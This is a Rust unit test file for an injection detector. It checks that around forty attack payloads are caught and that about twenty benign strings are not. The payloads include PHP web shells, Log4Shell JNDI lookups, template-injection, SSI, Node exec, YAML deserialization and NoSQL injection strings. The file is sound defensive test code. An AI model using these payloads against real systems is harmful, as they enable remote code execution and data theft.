use super::detect;

#[test]
fn payloads() {
    for a in [
        "phpinfo()",
        "<?php system($_GET['c']); ?>",
        "${@print(md5(31337))}",
        "${jndi:ldap://x.example/a}",
        "${${::-j}ndi:ldap://x}",
        "{{1337*1338}}",
        "${7*7}",
        "aaaa'+#{16*8787}+'bbb",
        "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
        "<!--#exec cmd=\"ls\" -->",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "require('child_process').exec('id')",
        "!!python/object/new:exec [import socket]",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "true, $where: '99 == 88'",
        "', $or: [ {}, { 'order':'order",
        "db.injection.insert({success:1});",
        "java.io.BufferedReader",
        "java.Runtime",
        "ProcessBuilder.evil.clonetransformer",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "exec\t(blah)",
        "exec/*comment*/()",
        "@{[system 'whoami']}",
        "<? echo 'hello'; ?>",
        "exec #comment\r\n (blah)",
        "return\"system\"(xyz).s",
        "system(whoami)",
        "$a(1)",
        "(system)(whoami)",
        "system()",
        "$_COOKIE",
        "while(!0);",
        "constructor.prototype.test",
        "__proto__",
        "@{   [   system \"id\"   ]   }",
        "Process.spawn(\"id\")",
        "$elemMatch",
        "$exists",
        ";var date = new Date(); do{curDate = new Date();}while(curDate-date",
        "0;var x=1",
        "@$__['o'](4)",
        "(system)('uname');",
        "FOOcall_user_func()",
        "@eval($_POST['x'])",
    ] {
        assert!(detect(a), "missed: {a}");
    }
}

#[test]
fn benign() {
    for b in [
        "Hello {{name}}, welcome",
        "The system (as designed) works",
        "Price is ${price}",
        "I'd like to include (if possible) a note",
        "java lang courses",
        "It costs $5 (plus tax)",
        "(see above)(ls is a command)",
        "Thank you (really)(id est)",
        "while (you wait) we work",
        "while(!true);",
        "email me @ {home}",
        "$ref",
        "$schema",
        "Pick one; var is short for variable",
        "$a[]()",
        "see (a) ('quoted')",
        "I use JavaScript and java every day",
        "md5 checksum of the file",
        "We evaluate (carefully) every request",
        "Use #{hashtag} in posts",
        "The price is $5 - $10",
        "I would like to request the bin with app_id: (]",
    ] {
        assert!(!detect(b), "false positive: {b}");
    }
}
